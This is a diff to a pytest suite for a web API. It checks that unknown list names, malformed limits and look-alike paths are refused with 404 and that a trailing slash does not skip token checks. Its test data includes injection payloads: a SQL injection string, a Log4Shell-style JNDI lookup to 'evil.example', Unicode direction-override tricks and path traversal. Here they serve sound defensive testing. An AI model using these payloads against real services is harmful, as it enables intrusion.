@@ -19,11 +19,27 @@ def _unchanged(parts: Parts) -> object:
     assert not parts.runs.page("demo", None, None, 10, "").runs
 
 
-@pytest.mark.parametrize("list_key", ["Department", "department ", "department%00", "departments", "x'--", "<x>", "."])
+NO_LISTS = (
+    "Department",
+    "department ",
+    "department%00",
+    "department%E2%80%8D",
+    "%E2%80%AEdepartment",
+    "departments",
+    "department' OR 1=1--",
+    "x'--",
+    "<x>",
+    "<!DOCTYPE x>",
+    "${jndi:ldap://evil.example}",
+    ".",
+)
+
+
+@pytest.mark.parametrize("list_key", NO_LISTS)
 def test_a_list_that_is_not_in_the_catalogue_is_not_found(api: Api, list_key: str) -> None:
     answer = api.post(f"/lists/{list_key.replace(' ', '%20')}/runs", {})
     assert refused(answer, 404)["code"] in ("list_unknown", "path_unknown")
-    assert b"<x>" not in answer.body
+    assert not any(text in answer.body for text in (b"<x>", b"DOCTYPE", b"evil"))
 
 
 @pytest.mark.parametrize(
@@ -63,6 +79,7 @@ def test_a_run_number_that_is_none_is_not_found(api: Api, run_id: str) -> None:
         ("limit=1.5", "limit"),
         ("limit=5.0", "limit"),
         ("limit=1e1", "limit"),
+        ("limit=1e9", "limit"),
         ("limit=", "limit"),
         ("limit=%2B5", "limit"),
         ("limit=05", "limit"),
@@ -115,9 +132,17 @@ def test_a_header_does_not_change_the_method(api: Api, header: str) -> None:
     assert answer.status == 405
 
 
-@pytest.mark.parametrize("path", ["//runs", "/runs//", "/run", "/Runs", "/runs%2f", "/..%2fv1/runs", "/v2/runs", "/"])
+LOOK_ALIKES = ("//runs", "/runs//", "/run", "/Runs", "/runs%2f", "/%2fruns", "/..%2fv1/runs", "/v2/runs", "/")
+
+
+@pytest.mark.parametrize("path", LOOK_ALIKES)
 def test_a_look_alike_path_is_not_found(api: Api, path: str) -> None:
-    assert api.send("GET", f"/api/v1{path}", None, {}).status == 404
+    assert refused(api.send("GET", f"/api/v1{path}", None, {}), 404)["code"] in ("path_unknown", "run_unknown")
+
+
+def test_a_slash_at_the_end_opens_nothing_else(api: Api) -> None:
+    assert api.get("/runs/").json == api.get("/runs").json
+    assert refused(api.as_("").get("/runs/"), 401)["code"] == "token_missing"
 
 
 @pytest.mark.parametrize(
